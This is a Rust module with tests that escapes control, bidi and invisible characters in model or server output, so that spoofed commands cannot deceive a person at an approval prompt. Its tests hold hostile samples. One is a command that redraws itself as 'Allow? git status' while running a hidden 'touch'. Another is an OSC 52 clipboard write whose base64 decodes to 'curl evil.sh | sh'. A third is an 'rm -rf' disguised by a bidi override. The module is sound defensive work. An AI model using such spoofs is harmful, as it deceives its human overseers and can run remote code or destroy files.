//! Text from a model or a server, made safe to show a person.
//!
//! A terminal obeys what it is sent: an escape sequence in a command can erase the line and
//! redraw it as something harmless ("Allow? … git status") while a hidden `touch …` is what
//! runs; OSC 52 writes the clipboard; a bidi override shows characters in another order than
//! they run in; zero-width characters hide text outright. Everything a model or a server wrote
//! is therefore passed through [`visible`] (one line) or [`visible_lines`] (a block whose line
//! breaks are kept) before it reaches a terminal or a page, so what the person reads is the
//! exact text, with every such character spelled out as an escape: `\x1b`, `\r`, `\t`,
//! `\u{202e}`.
//!
//! Backslashes are left as they are: a command holding the text `\x1b` shows the same as one
//! holding the character, but both show everything there is, so nothing can hide, and shell
//! commands stay readable.

use std::fmt::Write;

/// `text` on one line, every control, format, bidi and invisible character (line breaks
/// included) spelled out as an escape.
pub fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    spell(&mut out, text, false);
    out
}

/// Appends `text` to `out` with every hidden character spelled out; `prose` keeps line breaks
/// and tabs. Runs of printable ASCII, nearly all of most text, are copied whole: judging each
/// character on its own was a fifth of the instructions of a `glob` printed at a terminal.
fn spell(out: &mut String, text: &str, prose: bool) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        let run = bytes[at..]
            .iter()
            .position(|&b| !((0x20..0x7f).contains(&b) || (prose && (b == b'\n' || b == b'\t'))))
            .unwrap_or(bytes.len() - at);
        out.push_str(&text[at..at + run]);
        at += run;
        if let Some(c) = text[at..].chars().next() {
            push(out, c, prose);
            at += c.len_utf8();
        }
    }
}

/// `text` as a block: each of its lines starts with `gutter`, so the lines of a multi-line
/// command or message cannot pass for the text around it; line breaks (`\n`) are kept and every
/// other control, format, bidi and invisible character is spelled out as in [`visible`].
/// An empty `text` is one empty line.
pub fn visible_lines(text: &str, gutter: &str) -> String {
    let mut out = String::with_capacity(text.len() + gutter.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(gutter);
        spell(&mut out, line, false);
    }
    out
}

/// `text` for a stream meant to be read as prose (a model's answer): line breaks and tabs are
/// kept, everything else is spelled out as in [`visible`]. Each character is judged on its own,
/// so a stream can be converted piece by piece.
pub fn visible_prose(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    spell(&mut out, text, true);
    out
}

/// Whether [`visible`] would change anything but line breaks: the text holds characters a
/// terminal would not show as themselves.
pub fn has_hidden(text: &str) -> bool {
    !text
        .bytes()
        .all(|b| (0x20..0x7f).contains(&b) || b == b'\n')
        && text.chars().any(|c| c != '\n' && hidden(c))
}

fn push(out: &mut String, c: char, prose: bool) {
    if prose && (c == '\n' || c == '\t') {
        out.push(c);
        return;
    }
    if !hidden(c) {
        out.push(c);
        return;
    }
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        // C0 and DEL as bytes, the way terminals and shells write them.
        c if u32::from(c) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", u32::from(c));
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", u32::from(c));
        }
    }
}

/// Characters a terminal acts on or does not show as themselves: C0 controls, DEL, C1 controls
/// (U+0080–U+009F, among them the one-character CSI U+009B), line and paragraph separators,
/// and Unicode's format characters (bidi embeddings, overrides, isolates and marks, zero-width
/// spaces and joiners, the soft hyphen, invisible operators, the byte-order mark, tag
/// characters, variation selectors beyond the sixteen emoji ones), and the Hangul fillers that
/// render as blank space.
fn hidden(c: char) -> bool {
    matches!(
        u32::from(c),
        0x00..=0x1f
            | 0x7f..=0x9f
            | 0xad
            | 0x34f
            | 0x600..=0x605
            | 0x61c
            | 0x6dd
            | 0x70f
            | 0x890..=0x891
            | 0x8e2
            | 0x115f..=0x1160
            | 0x17b4..=0x17b5
            | 0x180b..=0x180f
            | 0x200b..=0x200f
            | 0x2028..=0x202e
            | 0x2060..=0x206f
            | 0x3164
            | 0xfeff
            | 0xffa0
            | 0xfff9..=0xfffb
            | 0x110bd
            | 0x110cd
            | 0x1bca0..=0x1bca3
            | 0x1d173..=0x1d17a
            | 0xe0000..=0xe0fff
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The review's spoof: the command erases its own line and redraws it as `git status`.
    const SPOOF: &str = "touch /tmp/h22-pwned #\x1b[2K\r\x1b[1AAllow? git status";

    #[test]
    fn h22_2_a_spoofed_command_shows_its_escapes_and_all_of_itself() {
        let shown = visible(SPOOF);
        assert_eq!(
            shown,
            "touch /tmp/h22-pwned #\\x1b[2K\\r\\x1b[1AAllow? git status"
        );
        assert!(!shown.contains('\x1b') && !shown.contains('\r'));
        assert!(has_hidden(SPOOF));
        let block = visible_lines("make deploy\n\x1b[2Kmake clean", "  | ");
        assert_eq!(block, "  | make deploy\n  | \\x1b[2Kmake clean");
    }

    #[test]
    fn h22_2_osc52_clipboard_writes_do_not_pass_through() {
        // OSC 52 with both terminators (BEL and ST), and the 8-bit OSC and ST of C1.
        let osc = "pick one\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]52;c;eA==\x1b\\\u{9d}52;c;eA==\u{9c}";
        for shown in [visible(osc), visible_lines(osc, "  "), visible_prose(osc)] {
            assert!(
                !shown.chars().any(|c| c.is_control()),
                "a control character passed: {shown:?}"
            );
            assert!(shown.contains("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"));
            assert!(shown.contains("\\u{9d}52;c;eA==\\u{9c}"));
        }
    }

    #[test]
    fn h22_2_bidi_overrides_and_invisible_characters_are_spelled_out() {
        let text = "rm -rf \u{202e}txt.sgol\u{202c} \u{2066}x\u{2069}\u{200b}\u{feff}\u{e0041}";
        assert_eq!(
            visible(text),
            "rm -rf \\u{202e}txt.sgol\\u{202c} \\u{2066}x\\u{2069}\\u{200b}\\u{feff}\\u{e0041}"
        );
        assert_eq!(visible("a\u{2028}b\u{85}c\x7f"), "a\\u{2028}b\\u{85}c\\x7f");
    }

    #[test]
    fn plain_text_and_prose_layout_are_kept() {
        let plain = "git status && echo 'héllo wörld' | grep -v 日本 \\x1b";
        assert_eq!(visible(plain), plain);
        assert!(!has_hidden(plain));
        assert!(!has_hidden("one\ntwo"));
        assert_eq!(visible("one\ntwo\tthree"), "one\\ntwo\\tthree");
        assert_eq!(visible_prose("one\ntwo\tthree\r"), "one\ntwo\tthree\\r");
        assert_eq!(visible_lines("", "> "), "> ");
        assert_eq!(visible_lines("a\n", "> "), "> a\n> ");
    }

    /// Copying runs of plain ASCII whole answers exactly as judging each character does.
    #[test]
    fn the_fast_path_spells_out_what_the_character_walk_does() {
        fn by_char(text: &str, prose: bool) -> String {
            let mut out = String::new();
            for c in text.chars() {
                push(&mut out, c, prose);
            }
            out
        }
        for text in [
            "",
            "plain ascii only",
            "tab\there\nnew line\r\n",
            "\x1b[2Kspoof\x7f\u{9b}",
            "bidi \u{202e}evil\u{202c} end",
            "zero\u{200b}width and é accents ü and 漢字 and emoji 🦀",
            "\u{e0041}tag\u{feff}bom",
            "ends with control\x01",
        ] {
            assert_eq!(visible(text), by_char(text, false), "{text:?}");
            assert_eq!(visible_prose(text), by_char(text, true), "{text:?}");
            assert_eq!(
                has_hidden(text),
                text.chars().any(|c| c != '\n' && hidden(c))
            );
        }
        assert_eq!(visible_lines("a\x1bb\nc", "| "), "| a\\x1bb\n| c");
        assert_eq!(visible_lines("", "| "), "| ");
    }
}
